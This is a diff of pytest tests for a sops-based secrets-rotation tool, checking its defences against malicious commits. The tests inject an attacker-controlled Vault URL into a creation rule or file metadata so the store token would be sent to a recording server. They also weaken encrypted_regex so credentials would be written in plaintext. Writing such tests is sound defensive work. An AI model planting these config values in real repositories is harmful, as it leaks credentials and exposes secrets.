@@ -558,9 +558,12 @@ def test_failed_pull_keeps_last_success(bot: Bot, tmp_path: Path) -> None:
     assert metric(prom, "aigw_secrets_last_success_timestamp_seconds") == success
 
 
-def test_textfile_valid_whatever_the_tool_prints(bot: Bot, tmp_path: Path) -> None:
+@pytest.mark.parametrize(
+    ("printed", "rc"), [("Traceback (most recent call last): not json", 1), ('{"data_keys_rotated": NaN}', 0)]
+)
+def test_textfile_valid_whatever_the_tool_prints(bot: Bot, tmp_path: Path, printed: str, rc: int) -> None:
     fake = tmp_path / "fake-aigw"
-    fake.write_text("#!/bin/sh\necho 'Traceback (most recent call last): not json'\nexit 1\n")
+    fake.write_text(f"#!/bin/sh\necho '{printed}'\nexit {rc}\n")
     fake.chmod(0o755)
     (bot.tmp / "aigw.prom").write_text("aigw_secrets_last_success_timestamp_seconds 1234\n")
     res = cron(bot, {"AIGW_SECRETS": str(fake)})
@@ -568,7 +571,8 @@ def test_textfile_valid_whatever_the_tool_prints(bot: Bot, tmp_path: Path) -> No
     prom = (bot.tmp / "aigw.prom").read_text()
     assert valid_textfile(prom), prom
     assert metric(prom, "aigw_secrets_last_success_timestamp_seconds") == "1234"
-    json.loads(res.stdout)  # the summary on stdout stays JSON
+    assert metric(prom, "aigw_secrets_last_run_timestamp_seconds")  # written by this run
+    json.loads(res.stdout, parse_constant=lambda c: pytest.fail(f"{c} in the summary"))  # it stays JSON
 
 
 # --- 7: one deadline over the whole exchange ------------------------------------------------------
@@ -1066,3 +1070,108 @@ def test_a_secret_pointed_at_another_files_path_keeps_only_its_own_recipients(
         ]
         == "dev"
     )
+
+
+# --- what a commit may name that sops itself acts on: a Vault, a rule leaving the value in the clear ----
+
+
+@dataclass
+class AttackerVault:
+    """A "Vault" a commit names (127.0.0.1): records every request it gets."""
+
+    url: str
+    seen: list[str]
+
+
+@pytest.fixture
+def attacker_vault() -> Iterator[AttackerVault]:
+    from http.server import BaseHTTPRequestHandler
+
+    from testing import httpserve
+
+    seen: list[str] = []
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_any(self) -> None:
+            seen.append(str(self.headers))
+            httpserve.send_json(self, 500, {})
+
+        do_GET = do_POST = do_PUT = do_any
+
+        def log_message(self, *_: object) -> None:
+            pass
+
+    server, url = httpserve.start(Handler)
+    yield AttackerVault(url, seen)
+    server.shutdown()
+    server.server_close()
+
+
+VAULT_TOKEN = "hvs." + "t" * 24  # the bot's store token (a stand-in)
+
+
+@pytest.mark.parametrize("where", ["rule", "metadata"])
+def test_a_vault_a_commit_names_is_never_contacted(
+    bot: Bot,
+    attacker_vault: AttackerVault,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+    where: str,
+) -> None:
+    """sops logs in to the Vault a creation rule or a file's metadata names with the VAULT_TOKEN in its
+    environment (the bot's store token). Named by a commit, it is refused before sops runs: rotate,
+    data-key rotation, status and doctor contact nothing, mint nothing, and say why (exit 11); a Vault
+    the operator names (VAULT_ADDR) is not refused."""
+    from aigw_secrets.sops import vaults
+
+    monkeypatch.setenv("VAULT_TOKEN", VAULT_TOKEN)
+    if where == "rule":
+        text = (bot.repo / ".sops.yaml").read_text()
+        ours = re.search(r"\n(\s*)age: age1[0-9a-z]+", text)
+        assert ours
+        line = f"{ours.group(0)}\n{ours.group(1)}hc_vault_transit_uri: {attacker_vault.url}/v1/transit/keys/k"
+        (bot.repo / ".sops.yaml").write_text(text.replace(ours.group(0), line, 1))
+    else:
+        doc = yaml.safe_load((bot.repo / SECRET).read_text())
+        stanza = {"vault_address": attacker_vault.url, "engine_path": "transit", "key_name": "k", "enc": "vault:v1:x"}
+        doc["sops"]["hc_vault"] = [{**stanza, "created_at": "2024-01-01T00:00:00Z"}]
+        (bot.repo / SECRET).write_text(yaml.safe_dump(doc, sort_keys=False))
+    bot.commit("add a Vault")
+    alive = bot.alive()
+    monkeypatch.setenv("AIGW_SECRETS_NOW", LATER)
+    capsys.readouterr()
+    assert main(["rotate", "--due"]) == ExitCode.MANUAL_ACTION
+    said = capsys.readouterr()
+    assert "HashiCorp Vault at http://127.0.0.1:" in said.out + said.err
+    for cmd in (["rotate", "--provider", "openai"], ["rotate", "--data-key"], ["status"], ["doctor"]):
+        main(cmd)
+    assert attacker_vault.seen == [] and bot.alive() == alive
+    with pytest.raises(vaults.UntrustedVault, match=r"127\.0\.0\.1"):
+        vaults.require({}, "x.sops.yaml", [f"{attacker_vault.url}/v1/transit/keys/k"], "its creation rule")
+    vaults.require({"VAULT_ADDR": attacker_vault.url + "/"}, "x.sops.yaml", [attacker_vault.url], "its rule")
+
+
+@pytest.mark.parametrize("what", ["minted", "seed"])
+def test_a_rule_leaving_the_value_in_the_clear_stops_before_minting(
+    bot: Bot, monkeypatch: pytest.MonkeyPatch, what: str
+) -> None:
+    """A commit narrows encrypted_regex so stringData stays in the clear: the rotation stops before
+    anything is minted (exit 11, the rule named), and nothing is written in plaintext, for the minted
+    credential and for the MCP seed."""
+    if what == "seed":
+        with (bot.repo / "cluster.yaml").open("a") as fh:
+            fh.write("ai_gateway_mcp_session_seed: true\n")
+        assert main(["generate", "--no-input"]) == 0
+        bot.commit("seed")
+        assert main(["rotate", "--due"]) == 0
+    cfg = bot.repo / ".sops.yaml"
+    cfg.write_text(cfg.read_text().replace("encrypted_regex: ^(data|stringData)$", "encrypted_regex: ^(type)$"))
+    bot.commit("tidy the sops rule")
+    alive, value = bot.alive(), bot.value()
+    monkeypatch.setenv("AIGW_SECRETS_NOW", LATER)
+    cmd = ["rotate", "--due"] if what == "minted" else ["rotate", "--provider", "mcp-session-seed"]
+    assert main(cmd) == ExitCode.MANUAL_ACTION
+    assert bot.alive() == alive and bot.value() == value  # (its data key may rotate: sops keeps its own selectors)
+    secrets = list((bot.repo / OUT).glob("*.sops.yaml"))
+    assert len(secrets) == 1 + (what == "seed")
+    assert all(sops_files.plain_in_secret(p.read_bytes()) == [] for p in secrets)
